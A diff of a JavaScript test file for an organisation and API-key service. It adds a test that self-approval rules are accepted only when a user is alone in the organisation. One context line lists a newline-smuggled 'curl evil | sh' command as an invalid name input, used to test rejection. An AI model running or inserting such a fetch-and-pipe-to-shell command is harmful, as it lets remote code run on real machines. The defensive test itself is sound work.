@@ -181,3 +181,14 @@ test.each(['X\ncurl evil | sh', 'a\u0007b', 'a\u2028b', ' '])('%j is no name of 
   expect(await refusal(Organization.update(ada.ctx, { name }))).toMatchObject({ code: 'invalid' })
   expect(await refusal(ApiKey.create(ada.ctx, { name, permissions: ['read:costs'] }))).toMatchObject({ code: 'invalid' })
 })
+
+test('who is alone in an organisation may approve their own requests; of two nobody may', async () => {
+  const { found, join } = world()
+  const ada = await found()
+  const approvalRules = { approvals: 1, allowSelfApproval: true }
+  await expect(Organization.update(ada.ctx, { approvalRules })).resolves.toMatchObject({ approvalRules })
+  const bob = await join(ada, 'devops')
+  expect(await refusal(Organization.update(ada.ctx, { approvalRules }))).toMatchObject({ code: 'invalid' })
+  await User.deactivate(ada.ctx, { id: bob.userId })
+  await expect(Organization.update(ada.ctx, { approvalRules })).resolves.toBeDefined()
+})
